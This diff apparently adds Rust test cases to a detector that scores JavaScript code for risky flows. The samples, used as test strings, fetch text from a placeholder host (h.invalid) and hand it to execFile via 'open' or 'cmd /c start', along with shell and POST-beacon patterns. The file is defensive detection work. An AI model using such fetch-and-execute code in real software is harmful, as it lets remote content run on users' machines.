@@ -633,6 +633,16 @@ fn pages_are_opened_whatever_their_query_says_and_mailboxes_of_others_are_no_col
     assert_eq!(weighs(encoded), Some(Severity::Medium));
     assert!(weighs("open \"https://h.invalid/\" && \"${t}\"") >= Some(Severity::High));
     assert!(weighs("sh -c \"${t}\"") >= Some(Severity::High));
+    // One of several openers, each with words of its own.
+    let by_system = |end: &str| {
+        let code = format!(
+            "import {{execFile}} from 'child_process'; const r = await fetch('https://h.invalid/v'); const t = await r.text();\n\
+             const c = process.platform === 'darwin' ? 'open' : 'cmd';\nexecFile(c, ['/c', 'start', '', {end}])"
+        );
+        weight(Language::JavaScript, &code, "flow-download-run")
+    };
+    assert_eq!(by_system("`https://h.invalid/new?code=${t}`"), Some(Severity::Medium));
+    assert!(by_system("`C:/${t}`") >= Some(Severity::High));
     let beacon = |address: &str| {
         rules(Language::JavaScript, &format!("fetch({address}, {{method: 'POST', body: 'x'}})"))
             .contains(&"flow-beacon")
